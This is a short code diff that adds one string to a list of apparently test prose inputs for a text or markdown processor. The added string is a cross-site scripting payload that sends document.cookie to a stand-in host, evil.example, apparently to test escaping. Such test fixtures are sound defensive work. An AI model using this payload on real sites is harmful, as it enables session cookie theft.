@@ -171,6 +171,7 @@ PROSE = [
     "x = 1  // <name-1>",
     "[<name-1>](#name-1)",
     "**<name-1>** _<name-1>_ (<name-1>)",
+    "fetch('//evil.example/'+document.cookie)</script> <img> <name-1>",
     "Is it so?<name-1>#1 & 50%",
 ]
 
